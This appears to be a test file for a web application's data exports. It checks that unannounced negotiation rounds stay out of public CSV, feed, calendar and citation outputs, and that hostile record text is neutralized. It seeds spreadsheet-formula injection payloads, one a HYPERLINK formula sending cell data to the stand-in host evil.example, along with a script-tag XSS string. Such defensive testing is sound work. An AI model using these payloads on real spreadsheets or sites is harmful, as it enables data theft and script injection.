// Exports are reads like any other: a planned round (the process's tier) is absent from the public's
// CSV, feeds and citations, and present for the process's delegations; hostile text in the record
// reaches a spreadsheet as text, never as a formula.
import { beforeAll, describe, expect, it } from "vitest";
import type { TestApp } from "../helpers/app.ts";
import { icsText, readCsv, readIcsEvents, readXml } from "../helpers/exports.ts";
import { type ProcessFixture, withProcessFixture } from "../helpers/process-fixtures.ts";

let app: TestApp;
let fx: ProcessFixture;
let publicId: string;
let plannedId: string;
const marker = "PLANNED-ROUND-MARKER";
const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd"];

withProcessFixture((started) => ({ app, fx } = started));
beforeAll(async () => {
  const send = async (method: "POST" | "PUT", url: string, payload: Record<string, unknown>) => {
    const response = await app.request({ method, url, payload, as: fx.as.secretariat });
    if (response.statusCode >= 300) throw new Error(`${url}: ${response.body}`);
    return response.json();
  };
  publicId = (
    await send("POST", `/api/processes/${fx.slug}/rounds`, {
      number: 1,
      names: { en: formulas[2], ar: "أستانا ١" },
      city: formulas[0],
      venue: formulas[1],
      startDate: "2017-01-23",
      endDate: "2017-01-24",
    })
  ).id;
  await send("PUT", `/api/rounds/${publicId}/participations`, {
    participantId: "russia",
    role: "guarantor",
    attendance: "attended",
    note: formulas[3],
  });
  await send("POST", `/api/rounds/${publicId}/announce`, {
    publishedOn: "2017-01-10",
    text: "Astana, 23-24 January. <script>alert(1)</script> & more",
  });
  plannedId = (
    await send("POST", `/api/processes/${fx.slug}/rounds`, {
      number: 2,
      names: { en: `Astana 2 ${marker}` },
      city: marker,
      startDate: "2017-02-15",
      endDate: "2017-02-16",
    })
  ).id;
  await send("PUT", `/api/rounds/${plannedId}/participations`, {
    participantId: "iran",
    role: "guarantor",
    attendance: "attended",
    note: marker,
  });
});

const exportsOf = (slug: string) => [
  `/api/processes/${slug}/export/rounds.csv`,
  `/api/processes/${slug}/export/attendance.csv`,
  `/api/processes/${slug}/export/conflicts.csv`,
  `/api/processes/${slug}/export/sources.csv`,
  `/api/processes/${slug}/feed.atom`,
  `/api/processes/${slug}/rounds.ics`,
];

describe("exports and tiers", () => {
  it("leaves a planned round out of every export the public reads, and cannot cite it", async () => {
    for (const url of exportsOf(fx.slug)) {
      const response = await app.request({ method: "GET", url });
      expect(response.statusCode, url).toBe(200);
      expect(response.body, url).not.toContain(marker);
      expect(response.body, url).not.toContain(plannedId);
    }
    const events = readIcsEvents(
      (await app.request({ method: "GET", url: exportsOf(fx.slug)[5] as string })).body,
    );
    expect(events.map((event) => event.UID)).toEqual([`round-${publicId}@localhost`]);
    for (const format of ["csl", "bibtex", "ris"]) {
      const response = await app.request({
        method: "GET",
        url: `/api/cite/round/${plannedId}?format=${format}`,
      });
      expect(response.statusCode).toBe(404);
      expect(response.json().error.code).toBe("not_found");
    }
    // An administrator without a role in the process sees what the public sees.
    const admin = await app.request({ method: "GET", url: exportsOf(fx.slug)[0] as string, as: fx.as.admin });
    expect(admin.body).not.toContain(marker);
  });

  it("includes it for the process's delegations, each answer private to its reader", async () => {
    for (const who of [fx.as.secretariat, fx.as.guarantor, fx.as.observer]) {
      const rounds = readCsv(
        (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/export/rounds.csv`, as: who }))
          .body,
      );
      expect(rounds.map((row) => row.round)).toEqual(["1", "2"]);
      const attendance = await app.request({
        method: "GET",
        url: `/api/processes/${fx.slug}/export/attendance.csv`,
        as: who,
      });
      expect(attendance.body).toContain(marker);
      expect(attendance.headers["cache-control"]).toContain("private");
      const calendar = readIcsEvents(
        (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/rounds.ics`, as: who })).body,
      );
      const planned = calendar.find((event) => event.UID === `round-${plannedId}@localhost`);
      expect(planned?.STATUS).toBe("TENTATIVE");
      expect(icsText(planned?.DESCRIPTION)).toContain("Dates as planned (not yet announced)");
      const cited = await app.request({ method: "GET", url: `/api/cite/round/${plannedId}`, as: who });
      expect(cited.statusCode).toBe(200);
      expect(JSON.parse(cited.body)[0].title).toContain(marker);
    }
    // The public, after them, still gets the public answer (no cached answer crosses readers).
    const after = await app.request({ method: "GET", url: `/api/processes/${fx.slug}/export/rounds.csv` });
    expect(readCsv(after.body).map((row) => row.round)).toEqual(["1"]);
  });
});

describe("hostile text in exports", () => {
  it("neutralizes formulas: a spreadsheet reads each such cell as the text the record holds", async () => {
    const rows = readCsv(
      (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/export/rounds.csv` })).body,
    );
    expect(rows[0]?.city).toBe(`'${formulas[0]}`);
    expect(rows[0]?.venue).toBe(`'${formulas[1]}`);
    expect(rows[0]?.name).toBe(`'${formulas[2]}`);
    const attendance = readCsv(
      (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/export/attendance.csv` })).body,
    );
    expect(attendance.find((row) => row.participant === "Russia")?.note).toBe(`'${formulas[3]}`);
    for (const row of [...rows, ...attendance])
      for (const cell of Object.values(row))
        expect(cell, "no cell starts a formula").not.toMatch(/^[=+\-@\t\r]/);
  });

  it("gives Arabic names when asked, and keeps markup in the feed as text", async () => {
    const arabic = readCsv(
      (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/export/rounds.csv?lang=ar` })).body,
    );
    expect(arabic[0]?.name).toBe("أستانا ١");
    expect(arabic[0]?.guarantor).toBe("روسيا");
    const feed = readXml(
      (await app.request({ method: "GET", url: `/api/processes/${fx.slug}/feed.atom` })).body,
    );
    const summary = feed.getElementsByTagName("summary")[0];
    expect(summary?.getAttribute("type")).toBe("html");
    expect(summary?.textContent).toContain("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more");
    expect(summary?.textContent).not.toContain("<script>");
  });
});
